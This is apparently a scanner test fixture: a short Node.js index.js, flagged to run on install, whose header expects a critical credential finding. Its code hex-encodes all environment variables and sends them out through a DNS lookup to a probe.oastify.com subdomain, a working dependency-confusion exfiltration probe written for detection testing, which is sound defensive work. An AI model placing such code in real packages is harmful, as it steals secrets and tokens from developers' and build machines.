#! path=index.js flags=install expect=L2-CRED-001:CRITICAL:4 max=any
// Written for this test: a dependency-confusion probe leaking the environment over DNS.
const dns = require('dns');
const os = require('os');
const data = Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60);
dns.lookup(data + '.' + os.hostname().slice(0, 10) + '.probe.oastify.com', () => {});
